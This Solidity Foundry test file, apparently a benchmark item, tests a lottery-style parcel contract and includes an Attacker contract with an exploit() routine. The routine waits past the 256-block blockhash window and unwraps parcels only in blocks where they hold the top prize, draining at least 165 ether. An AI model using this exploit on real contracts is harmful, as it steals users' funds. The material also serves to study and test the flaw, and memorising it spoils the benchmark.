// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

import "./JackdawParcels.sol";

// assay-canary-b8ddf075-3ff3-42f9-8eaf-d25b40c75fcf

interface Vm {
    function deal(address who, uint256 balance) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Keeps a shop of its own, and takes no ether.
contract Shed {
    JackdawParcels public shop = new JackdawParcels();

    function takeHome() external {
        shop.takeHome(1);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant GUEST = address(0x6E57);
    uint256 internal constant FIRST = 50_000_000;
    uint256 internal constant START = 1_773_900_000;

    JackdawParcels internal shop;
    Attacker internal thief;

    receive() external payable {}

    function setUp() public {
        vm.roll(FIRST);
        vm.warp(START);
        vm.deal(address(this), 600 ether);
        shop = new JackdawParcels();
        shop.stock{value: 450 ether}();
        thief = new Attacker(shop);
        vm.deal(address(thief), 10 ether);
    }

    function test_Regular() public {
        vm.deal(GUEST, 10 ether);
        vm.prank(GUEST);
        uint256 id = shop.buy{value: 10 ether}(20);
        require(shop.shelfOf(GUEST).length == 20 && shop.heldBack() == 400 ether, "bought");
        vm.prank(GUEST);
        shop.handOver(id, address(this));

        vm.roll(FIRST + 3);
        (bool ok,) = address(shop).call(abi.encodeCall(JackdawParcels.unwrap, (id)));
        require(!ok, "too early");
        vm.roll(FIRST + 4);
        (ok,) = address(shop).call(abi.encodeCall(JackdawParcels.unwrap, (id + 1)));
        require(!ok, "somebody else's");
        uint256 mark = shop.markOf(id);
        vm.roll(FIRST + 30);
        require(shop.markOf(id) == mark, "the same mark");
        uint256 due = shop.prizeFor(mark);
        uint256 before = address(this).balance;
        require(shop.unwrap(id) == due && address(this).balance == before + due, "prize");
        (ok,) = address(shop).call(abi.encodeCall(JackdawParcels.unwrap, (id)));
        require(!ok, "twice");
        require(shop.prizeFor(0) == 20 ether && shop.prizeFor(599) == 2 ether && shop.prizeFor(3_600) == 0, "grades");

        (ok,) = address(shop).call(abi.encodeCall(JackdawParcels.clear, (id + 19)));
        require(!ok, "cleared too early");
        for (uint256 i = 1; i < 19; ++i) {
            vm.prank(GUEST);
            shop.unwrap(id + i);
        }
        vm.roll(FIRST + 1_000_004);
        shop.clear(id + 19);
        require(shop.heldBack() == 0, "nothing held back");
        shop.takeHome(address(shop).balance);

        shop.setSelling(false);
        require(!shop.selling(), "closed");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The shopkeeper's business, and the buyer's.
    function test_RefusesStrangers() public {
        bytes memory notHis = abi.encodeWithSelector(JackdawParcels.NotYours.selector, 0);
        refuses(GUEST, notHis);
        shop.setSelling(false);
        refuses(GUEST, notHis);
        shop.takeHome(1);
        refuses(GUEST, notHis);
        shop.clear(1);
        vm.deal(GUEST, 1 ether);
        vm.prank(GUEST);
        uint256 id = shop.buy{value: 0.5 ether}(1);
        vm.expectRevert(abi.encodeWithSelector(JackdawParcels.NotYours.selector, id));
        shop.handOver(id, address(this));
        vm.expectRevert(abi.encodeWithSelector(JackdawParcels.OutOfStock.selector, 430.5 ether));
        shop.takeHome(431 ether);
    }

    /// Parcels while they are sold, some, for their price, and covered.
    function test_RefusesPurchases() public {
        vm.deal(GUEST, 100 ether);
        refuses(GUEST, abi.encodeWithSelector(JackdawParcels.Count.selector, 0));
        shop.buy(0);
        refuses(GUEST, abi.encodeWithSelector(JackdawParcels.Count.selector, 21));
        shop.buy{value: 10.5 ether}(21);
        refuses(GUEST, abi.encodeWithSelector(JackdawParcels.Payment.selector, 0.5 ether));
        shop.buy{value: 1 ether}(1);
        vm.prank(GUEST);
        shop.buy{value: 10 ether}(20);
        refuses(GUEST, abi.encodeWithSelector(JackdawParcels.OutOfStock.selector, 462 ether));
        shop.buy{value: 2 ether}(4);
        shop.setSelling(false);
        refuses(GUEST, JackdawParcels.Closed.selector);
        shop.buy{value: 0.5 ether}(1);
    }

    /// What is unwrapped stays so, and ether goes to who takes it.
    function test_RefusesUnwrapped() public {
        uint256 id = shop.buy{value: 0.5 ether}(1);
        vm.expectRevert(abi.encodeWithSelector(JackdawParcels.UnwrappedAlready.selector, id + 1));
        shop.clear(id + 1);
        vm.roll(FIRST + 4);
        shop.unwrap(id);
        vm.expectRevert(abi.encodeWithSelector(JackdawParcels.UnwrappedAlready.selector, id));
        shop.handOver(id, GUEST);
        vm.roll(FIRST + 2_000_000);
        vm.expectRevert(abi.encodeWithSelector(JackdawParcels.UnwrappedAlready.selector, id));
        shop.clear(id);
        Shed shed = new Shed();
        vm.deal(address(shed.shop()), 1 ether);
        vm.expectRevert(abi.encodeWithSelector(JackdawParcels.Payment.selector, 1));
        shed.takeHome();
    }

    /// Parcels bought now are opened more than 256 blocks later, each in a block in which it holds the highest prize.
    function exploit() public {
        thief.stockUp();
        uint256 number = block.number + 300;
        uint256 time = block.timestamp + 15 minutes;
        for (uint256 i = 0; i < 400 && !thief.satisfied(); ++i) {
            vm.roll(number + i);
            vm.warp(time + 3 * i);
            thief.look();
        }
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 165 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(shop);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Looks at its parcels once a block and unwraps those that would hold the highest prize now.
contract Attacker {
    JackdawParcels internal shop;
    uint256[] internal ids;

    constructor(JackdawParcels shop_) {
        shop = shop_;
    }

    receive() external payable {}

    function stockUp() external {
        uint256 first = shop.buy{value: 10 ether}(20);
        for (uint256 i = 0; i < 20; ++i) {
            ids.push(first + i);
        }
    }

    function satisfied() external view returns (bool) {
        return address(this).balance >= 176 ether;
    }

    function look() external {
        for (uint256 i = ids.length; i > 0; --i) {
            uint256 id = ids[i - 1];
            if (shop.markOf(id) >= 50) continue;
            ids[i - 1] = ids[ids.length - 1];
            ids.pop();
            shop.unwrap(id);
        }
    }
}
